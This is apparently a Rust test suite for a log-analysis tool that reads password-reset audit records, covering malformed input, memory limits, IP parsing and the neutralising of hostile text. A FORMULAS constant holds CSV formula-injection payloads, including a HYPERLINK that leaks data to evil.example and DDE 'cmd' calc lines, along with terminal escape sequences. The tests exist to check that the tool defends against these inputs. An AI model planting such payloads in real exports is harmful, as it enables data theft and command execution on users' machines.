//! Hostile input end to end: every kind of broken record named with its file and line, kept
//! verbatim in the rejects file, and everything around it still counted (the sample tenant is
//! spread over the hostile files, so the ground truth holds only if every good line is read);
//! a 100 MB line within a memory bound; IP addresses in odd shapes.

use std::collections::BTreeSet;
use std::io::Write;
use std::path::{Path, PathBuf};
use std::process::Command as Process;

use flate2::Compression;
use flate2::write::GzEncoder;
use polars::prelude::{CsvReadOptions, ParquetReader, SerReader};
use serde_json::{Value, json};

use super::common::{assert_channels, csv_rows, import, run, sample, ssprlens, truth};

const COUNTED: [&str; 4] = ["attempts", "completed", "users", "ips"];

/// One hostile line and the words its reject message must carry (`None`: it is a valid record,
/// read without harm).
struct Hostile {
    line: Vec<u8>,
    why: Option<&'static str>,
}

fn hostile(line: impl Into<Vec<u8>>, why: &'static str) -> Hostile {
    Hostile {
        line: line.into(),
        why: Some(why),
    }
}

/// The sample tenant's lines.
fn sample_lines() -> Vec<Vec<u8>> {
    std::fs::read(sample("audit.ndjson"))
        .unwrap()
        .split(|byte| *byte == b'\n')
        .filter(|line| !line.is_empty())
        .map(<[u8]>::to_vec)
        .collect()
}

/// A record of no attempt (`Change password` is not a reset) with `field` set to `value`:
/// whether it is read or rejected, no count changes, so a reject is the decoder's doing.
fn with_wrong_type(field: &str, value: Value) -> Vec<u8> {
    let mut record = json!({
        "id": format!("wrong-type-{field}"),
        "activityDateTime": "2026-10-01T00:00:00Z",
        "activityDisplayName": "Change password (self-service)",
        "correlationId": format!("wrong-type-{field}"),
        "loggedByService": "Self-service Password Management", "category": "UserManagement",
        "operationType": "Update", "result": "success", "resultReason": "", "userAgent": "Mozilla/5.0",
        "initiatedBy": {"user": {"id": "u", "userPrincipalName": "u@x", "displayName": "U", "ipAddress": "192.0.2.1"},
                        "app": {"appId": "a", "displayName": "A", "servicePrincipalId": "s", "servicePrincipalName": "n"}},
        "targetResources": [{"id": "t", "displayName": "T", "type": "User", "userPrincipalName": "t@x"}],
        "additionalDetails": [{"key": "k", "value": "v"}],
    });
    let pointer = format!("/{}", field.replace('.', "/"));
    *record.pointer_mut(&pointer).expect("the field exists") = value;
    serde_json::to_vec(&record).unwrap()
}

/// Every field ssprlens reads, each given a value of the wrong type.
fn wrong_types() -> Vec<Hostile> {
    let strings = [
        "id",
        "activityDateTime",
        "loggedByService",
        "category",
        "activityDisplayName",
        "operationType",
        "result",
        "resultReason",
        "correlationId",
        "userAgent",
        "initiatedBy.user.id",
        "initiatedBy.user.displayName",
        "initiatedBy.user.userPrincipalName",
        "initiatedBy.user.ipAddress",
        "initiatedBy.app.appId",
        "initiatedBy.app.displayName",
        "initiatedBy.app.servicePrincipalId",
        "initiatedBy.app.servicePrincipalName",
        "targetResources.0.id",
        "targetResources.0.displayName",
        "targetResources.0.type",
        "targetResources.0.userPrincipalName",
        "additionalDetails.0.key",
    ];
    let structures = [
        "initiatedBy",
        "initiatedBy.user",
        "initiatedBy.app",
        "targetResources",
        "additionalDetails",
        "targetResources.0",
        "additionalDetails.0",
    ];
    let mut lines: Vec<Hostile> = strings
        .iter()
        .map(|field| hostile(with_wrong_type(field, json!({"wrong": [1]})), "`"))
        .collect();
    lines.extend(
        structures
            .iter()
            .map(|field| hostile(with_wrong_type(field, json!(42)), "`")),
    );
    lines
}

/// Writes `lines` with `bad` spliced in at even intervals; returns the 1-based line numbers of
/// the bad ones.
fn splice(good: &[Vec<u8>], bad: &[Hostile]) -> (Vec<u8>, Vec<usize>) {
    let mut text = Vec::new();
    let mut numbers = Vec::new();
    let every = good.len() / (bad.len() + 1) + 1;
    let mut bad = bad.iter();
    let mut line = 0;
    for (index, good_line) in good.iter().enumerate() {
        if index % every == every / 2
            && let Some(hostile) = bad.next()
        {
            text.extend_from_slice(&hostile.line);
            text.push(b'\n');
            line += 1;
            numbers.push(line);
        }
        text.extend_from_slice(good_line);
        text.push(b'\n');
        line += 1;
    }
    for hostile in bad {
        text.extend_from_slice(&hostile.line);
        text.push(b'\n');
        line += 1;
        numbers.push(line);
    }
    (text, numbers)
}

fn write(dir: &Path, name: &str, bytes: &[u8]) -> PathBuf {
    let path = dir.join(name);
    std::fs::write(&path, bytes).unwrap();
    path
}

#[test]
fn every_hostile_record_is_named_and_kept_and_the_rest_still_counts() {
    let dir = tempfile::tempdir().unwrap();
    let lines = sample_lines();
    let deep_open = "[".repeat(10_000);
    let deep_closed = format!(
        "{{\"id\":\"deep\",\"x\":{}{}}}",
        "[".repeat(10_000),
        "]".repeat(10_000)
    );
    let files: Vec<(&str, Vec<Hostile>)> = vec![
        (
            "nesting.ndjson",
            vec![
                hostile(
                    deep_open,
                    "line break inside a record: a line of line-delimited JSON is cut short",
                ),
                Hostile {
                    line: deep_closed.into(),
                    why: None,
                },
            ],
        ),
        (
            "utf8.ndjson",
            vec![hostile(
                b"{\"id\":\"bad-\xff\xfe\",\"correlationId\":\"x\"}".to_vec(),
                "invalid unicode",
            )],
        ),
        (
            "nul.ndjson",
            vec![hostile(
                b"{\"id\":\"nul\",\x00\"correlationId\":\"x\"}".to_vec(),
                "unexpected byte 0x00",
            )],
        ),
        (
            "text.ndjson",
            vec![hostile("This is a note, not JSON at all.", "not JSON")],
        ),
        ("types.ndjson", wrong_types()),
    ];
    // The sample is dealt out over the hostile files and a truncated gzip stream.
    let share = lines.len() / (files.len() + 1) + 1;
    let mut chunks = lines.chunks(share);
    let mut expected = Vec::new();
    let mut inputs = Vec::new();
    for (name, bad) in &files {
        let (text, numbers) = splice(chunks.next().unwrap(), bad);
        inputs.push(write(dir.path(), name, &text));
        for (number, hostile) in numbers.iter().zip(bad) {
            if let Some(why) = hostile.why {
                expected.push((format!("{name}:{number}"), why, hostile.line.clone()));
            }
        }
    }
    let rest: Vec<u8> = chunks.flat_map(|chunk| chunk.join(&b'\n')).collect();
    let rest = [rest, b"\n".to_vec()].concat();
    let mut gzip = GzEncoder::new(Vec::new(), Compression::default());
    gzip.write_all(&rest).unwrap();
    let gzip = gzip.finish().unwrap();
    let cut = &gzip[..gzip.len() - 8]; // no CRC and size: the stream ends early
    inputs.push(write(dir.path(), "cut.ndjson.gz", cut));
    inputs.push(write(dir.path(), "empty.json", b""));
    inputs.push(write(
        dir.path(),
        "picture.json",
        b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR",
    ));

    let rejects = dir.path().join("rejects.ndjson");
    let output = ssprlens()
        .args(["report", "--format", "csv", "--rejects"])
        .arg(&rejects)
        .arg("--input")
        .args(&inputs)
        .env("SSPRLENS_LOG", "ssprlens=debug")
        .output()
        .unwrap();
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert_eq!(output.status.code(), Some(0), "{stderr}");
    assert!(!stderr.contains("panicked"), "{stderr}");
    assert_channels(
        &String::from_utf8_lossy(&output.stdout),
        &truth()["channels"],
        &COUNTED,
    );
    for (place, why, _) in &expected {
        let named = stderr
            .lines()
            .find(|line| line.contains(&format!("/{place}: ")))
            .unwrap_or_else(|| panic!("{place} not named:\n{stderr}"));
        assert!(named.contains(why), "{place}: want `{why}` in: {named}");
    }
    for name in ["cut.ndjson.gz", "empty.json", "picture.json"] {
        assert!(stderr.contains(&format!("/{name}")), "{name}:\n{stderr}");
    }
    let total = expected.len() + 3;
    assert!(
        stderr.contains(&format!(" {total} rejected")),
        "{total} rejects:\n{stderr}"
    );
    let kept = std::fs::read(&rejects).unwrap();
    for (place, _, line) in &expected {
        assert!(
            kept.windows(line.len() + 1)
                .any(|window| window[..line.len()] == line[..] && window[line.len()] == b'\n'),
            "{place} not kept verbatim"
        );
    }
}

/// The peak resident memory of a command, in bytes, as GNU time reports it.
fn peak_memory(command: &mut Process) -> (i32, String, u64) {
    let report = tempfile::NamedTempFile::new().unwrap();
    let time = Path::new("/usr/bin/time");
    assert!(
        time.exists(),
        "GNU time is needed to measure memory: apt-get install time"
    );
    let program = command.get_program().to_owned();
    let args: Vec<_> = command.get_args().map(ToOwned::to_owned).collect();
    let output = Process::new(time)
        .args(["-f", "%M", "-o"])
        .arg(report.path())
        .arg(program)
        .args(args)
        .env_remove("SSPRLENS_LOG")
        .output()
        .unwrap();
    let kilobytes: u64 = std::fs::read_to_string(report.path())
        .unwrap()
        .lines()
        .last()
        .unwrap()
        .trim()
        .parse()
        .unwrap();
    (
        output.status.code().unwrap_or(-1),
        String::from_utf8_lossy(&output.stderr).into_owned(),
        kilobytes * 1024,
    )
}

#[test]
fn a_100_mb_line_is_read_within_a_bounded_memory() {
    const HUGE: usize = 100 << 20;
    let dir = tempfile::tempdir().unwrap();
    let lines = sample_lines();
    let (head, tail) = lines.split_at(lines.len() / 2);
    // An unterminated 100 MB array (rejected) and a 100 MB user agent in a record of no attempt
    // (read), between the two halves of the sample.
    let garbage = format!("{{\"id\":\"junk\",\"x\":[{}", "1,".repeat(HUGE / 2));
    let mut huge_record: Value = serde_json::from_slice(&lines[0]).unwrap();
    huge_record["id"] = json!("huge-user-agent");
    huge_record["correlationId"] = json!("huge-user-agent");
    huge_record["activityDisplayName"] = json!("Change password (self-service)");
    huge_record["userAgent"] = json!("A".repeat(HUGE));
    let mut text = head.join(&b'\n');
    for line in [
        garbage.as_bytes(),
        &serde_json::to_vec(&huge_record).unwrap(),
    ] {
        text.push(b'\n');
        text.extend_from_slice(line);
    }
    for line in tail {
        text.push(b'\n');
        text.extend_from_slice(line);
    }
    text.push(b'\n');
    let input = write(dir.path(), "huge.ndjson", &text);
    drop(text);
    let rejects = dir.path().join("rejects.ndjson");
    let out = dir.path().join("channels.csv");

    let mut command = Process::new(env!("CARGO_BIN_EXE_ssprlens"));
    command
        .args(["report", "--input"])
        .arg(&input)
        .arg("--rejects")
        .arg(&rejects)
        .arg("--out")
        .arg(&out);
    let (code, stderr, peak) = peak_memory(&mut command);
    assert_eq!(code, 0, "{stderr}");
    assert_channels(
        &std::fs::read_to_string(&out).unwrap(),
        &truth()["channels"],
        &COUNTED,
    );
    let garbage_line = head.len() + 1;
    assert!(
        stderr.contains(&format!("huge.ndjson:{garbage_line}: ")),
        "{stderr}"
    );
    assert_eq!(
        std::fs::metadata(&rejects).unwrap().len(),
        garbage.len() as u64 + 1,
        "the rejected line is kept whole"
    );
    // The bound: a few copies of the longest line (the reader's block, the framer's buffer, the
    // decoded value, the attempt's copy of the user agent; measured 5.7 to 5.9 copies with the
    // process's base of about 75 MiB), never a multiple of the whole input (201 MB).
    assert!(
        peak < 13 * HUGE as u64 / 2,
        "peak memory {} MiB for a 100 MiB line",
        peak >> 20
    );
    eprintln!("peak memory with a 100 MiB line: {} MiB", peak >> 20);
}

#[test]
fn ip_addresses_in_odd_shapes_are_normalised_or_flagged() {
    let shapes = [
        ("::ffff:198.51.100.9", Some(("address", "198.51.100.9"))),
        ("198.51.100.10:443", Some(("address", "198.51.100.10"))),
        ("[2001:db8::5]:443", Some(("address", "2001:db8::5"))),
        ("[2001:DB8::6]", Some(("address", "2001:db8::6"))),
        ("  198.51.100.11\t", Some(("address", "198.51.100.11"))),
        ("not-an-ip", Some(("not_an_address", "not-an-ip"))),
        ("fe80::1%eth0", Some(("not_an_address", "fe80::1%eth0"))),
        ("999.1.1.1", Some(("not_an_address", "999.1.1.1"))),
        ("   ", None),
    ];
    let dir = tempfile::tempdir().unwrap();
    let mut text = String::new();
    for (index, (ip, _)) in shapes.iter().enumerate() {
        let record = json!({
            "id": format!("ip-{index}"), "correlationId": format!("ip-{index}"),
            "activityDateTime": "2026-10-01T08:00:00Z", "result": "success",
            "loggedByService": "Self-service Password Management",
            "activityDisplayName": "Reset password (self-service)",
            "initiatedBy": {"user": {"userPrincipalName": format!("user{index}@x"), "ipAddress": ip}},
        });
        text.push_str(&format!("{record}\n"));
    }
    let input = write(dir.path(), "ips.ndjson", text.as_bytes());
    let (code, stdout, stderr) = run(&[
        "report",
        "--input",
        input.to_str().unwrap(),
        "--report",
        "ips",
        "--format",
        "csv",
    ]);
    assert_eq!(code, 0, "{stderr}");
    let rows: Vec<(String, String)> = csv_rows(&stdout)
        .into_iter()
        .filter(|row| row["scope"] != "network")
        .map(|row| (row["scope"].clone(), row["ip"].clone()))
        .collect();
    let mut want: Vec<(String, String)> = shapes
        .iter()
        .filter_map(|(_, expected)| *expected)
        .map(|(scope, ip)| (scope.to_owned(), ip.to_owned()))
        .collect();
    let mut got = rows;
    want.sort();
    got.sort();
    assert_eq!(got, want);
    assert!(
        stderr.contains("3 attempts have an IP address field that holds no IP address"),
        "{stderr}"
    );
}

/// Text an attacker can put in a user name, a client type, a user agent or an address field.
const FORMULAS: [&str; 6] = [
    "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
];
const ESCAPES: &str = "evil\u{1b}[2J\u{1b}]0;owned\u{7}\u{8}\u{202e}txt";

/// One completed reset per formula, each field hostile; user agents carry terminal escapes.
fn hostile_text_records() -> String {
    let mut text = String::new();
    for (index, formula) in FORMULAS.iter().enumerate() {
        let user = json!({"id": formula, "userPrincipalName": formula, "displayName": formula,
                          "ipAddress": formula});
        for (row, activity) in [
            "Self-service password reset flow activity progress",
            "Reset password (self-service)",
        ]
        .iter()
        .enumerate()
        {
            let record = json!({
                "id": format!("text-{index}-{row}"), "correlationId": format!("text-{index}"),
                "activityDateTime": format!("2026-10-0{}T08:00:0{row}Z", index + 1),
                "loggedByService": "Self-service Password Management",
                "activityDisplayName": activity, "result": "success",
                "resultReason": formula,
                "initiatedBy": {"user": user},
                "targetResources": [{"type": "User", "id": formula, "userPrincipalName": formula}],
                "additionalDetails": [
                    {"key": "ClientType", "value": formula},
                    {"key": "User-Agent", "value": format!("{formula}{ESCAPES}")},
                ],
            });
            text.push_str(&format!("{record}\n"));
        }
    }
    text
}

/// The cells of a CSV file, read by polars' CSV reader (quotes, embedded line breaks).
fn csv_cells(path: &Path) -> Vec<String> {
    let frame = CsvReadOptions::default()
        .with_infer_schema_length(Some(0))
        .try_into_reader_with_file_path(Some(path.to_path_buf()))
        .unwrap()
        .finish()
        .unwrap();
    let mut cells = Vec::new();
    for column in frame.columns() {
        let column = column.str().unwrap();
        cells.extend(column.iter().flatten().map(str::to_owned));
    }
    cells
}

#[test]
fn hostile_text_is_neutralised_in_csv_stripped_for_display_and_verbatim_in_data_formats() {
    let dir = tempfile::tempdir().unwrap();
    let input = write(dir.path(), "text.ndjson", hostile_text_records().as_bytes());
    let report = |extra: &[&str]| {
        let (code, stdout, stderr) =
            run(&[&["report", "--input", input.to_str().unwrap()][..], extra].concat());
        assert_eq!(code, 0, "{extra:?}: {stderr}");
        stdout
    };
    let everything = write(
        dir.path(),
        "everything.sql",
        b"SELECT e.*, a.* FROM events e JOIN attempts a ON e.correlation_id = a.attempt_id",
    );

    // CSV: every built-in report and every column of both tables; no cell a formula.
    let csv = dir.path().join("csv");
    report(&["--all", "--out", csv.to_str().unwrap()]);
    let tables = dir.path().join("tables.csv");
    report(&[
        "--query",
        everything.to_str().unwrap(),
        "--out",
        tables.to_str().unwrap(),
    ]);
    let mut files: Vec<PathBuf> = std::fs::read_dir(&csv)
        .unwrap()
        .map(|entry| entry.unwrap().path())
        .collect();
    files.push(tables.clone());
    let mut seen = 0;
    for path in &files {
        for cell in csv_cells(path) {
            let dangerous = cell.starts_with(['=', '+', '-', '@', '\t', '\r']);
            assert!(
                !dangerous || cell.parse::<f64>().is_ok(),
                "{}: a formula cell: {cell:?}",
                path.display()
            );
            seen += usize::from(FORMULAS.iter().any(|f| cell == format!("'{f}")));
        }
    }
    assert!(
        seen >= 6 * 4,
        "the formulas reached the files, neutralised: {seen}"
    );

    // Terminal and Markdown: no escape or control character survives; the text around does.
    for format in ["table", "markdown"] {
        for name in ["users", "client_types", "ips"] {
            let shown = report(&["--report", name, "--format", format]);
            assert!(
                !shown
                    .chars()
                    .any(|c| c.is_control() && c != '\n' || c == '\u{202e}'),
                "{name} as {format}: {shown:?}"
            );
        }
        let shown = report(&["--query", everything.to_str().unwrap(), "--format", format]);
        assert!(shown.contains("evil"), "{shown}");
        assert!(
            !shown
                .chars()
                .any(|c| c.is_control() && c != '\n' || c == '\u{202e}'),
            "{format}: {shown:?}"
        );
    }

    // JSON and Parquet: every value verbatim.
    let json: Value = serde_json::from_str(&report(&[
        "--query",
        everything.to_str().unwrap(),
        "--format",
        "json",
    ]))
    .unwrap();
    let parquet = dir.path().join("tables.parquet");
    report(&[
        "--query",
        everything.to_str().unwrap(),
        "--out",
        parquet.to_str().unwrap(),
    ]);
    let frame = ParquetReader::new(std::fs::File::open(&parquet).unwrap())
        .finish()
        .unwrap();
    let parquet_agents: BTreeSet<String> = frame
        .column("user_agent")
        .unwrap()
        .str()
        .unwrap()
        .iter()
        .flatten()
        .map(str::to_owned)
        .collect();
    // (Outer white space is trimmed from every field as it is read, tabs and CRs included.)
    for formula in FORMULAS {
        let agent = format!("{formula}{ESCAPES}");
        let (agent, formula) = (agent.trim(), formula.trim());
        let rows = json.as_array().unwrap();
        assert!(
            rows.iter().any(|row| row["user_agent"] == agent),
            "JSON: {agent:?}"
        );
        assert!(
            rows.iter().any(|row| row["initiator_upn"] == formula),
            "JSON: {formula:?}"
        );
        assert!(parquet_agents.contains(agent), "Parquet: {agent:?}");
    }

    // The raw archive of the store: the records byte for byte.
    let store = dir.path().join("store");
    let (code, _, stderr) = import(&store, &input);
    assert_eq!(code, 0, "{stderr}");
    let mut archived = Vec::new();
    for entry in walkdir::WalkDir::new(store.join("raw")) {
        let entry = entry.unwrap();
        if entry.file_type().is_file() {
            std::io::Read::read_to_end(
                &mut flate2::read::MultiGzDecoder::new(std::fs::File::open(entry.path()).unwrap()),
                &mut archived,
            )
            .unwrap();
        }
    }
    let archived = String::from_utf8(archived).unwrap();
    let mut archived: Vec<&str> = archived.lines().collect();
    let original = std::fs::read_to_string(&input).unwrap();
    let mut original: Vec<&str> = original.lines().collect();
    archived.sort_unstable();
    original.sort_unstable();
    assert_eq!(archived, original);
}
